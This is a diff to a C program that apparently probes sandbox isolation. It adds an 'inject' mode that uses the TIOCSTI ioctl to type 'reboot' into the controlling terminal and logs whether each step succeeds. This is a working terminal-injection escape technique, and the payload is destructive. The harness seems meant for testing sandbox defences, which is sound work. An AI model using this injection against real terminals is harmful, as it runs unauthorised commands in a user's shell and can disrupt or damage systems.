@@ -9,6 +9,7 @@
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
+#include <sys/ioctl.h>
 #include <sys/ptrace.h>
 #include <sys/stat.h>
 #include <sys/syscall.h>
@@ -119,6 +120,15 @@ static void swap(const char *one, const char *other, int rounds)
 	loot("swapped %d\n", rounds);
 }
 
+/* Write into the input queue of the terminal on stdin, as if somebody typed there (TIOCSTI). */
+static void inject(void)
+{
+	loot("controlling %d\n", ioctl(0, TIOCSCTTY, 0) == 0 || ioctl(0, TIOCSCTTY, 1) == 0);
+	loot("tty %d\n", open("/dev/tty", O_RDWR) >= 0);
+	for (const char *c = "reboot\n"; *c; c++)
+		loot("injected %d\n", ioctl(0, TIOCSTI, c) == 0);
+}
+
 int main(int argc, char **argv)
 {
 	const char *mode = argc > 1 ? argv[1] : "";
@@ -128,6 +138,8 @@ int main(int argc, char **argv)
 		watch(atoi(argv[2]), argv[3]);
 	else if (!strcmp(mode, "swap"))
 		swap(argv[2], argv[3], atoi(argv[4]));
+	else if (!strcmp(mode, "inject"))
+		inject();
 	else if (!strcmp(mode, "wait"))
 		pause();
 	return 0;
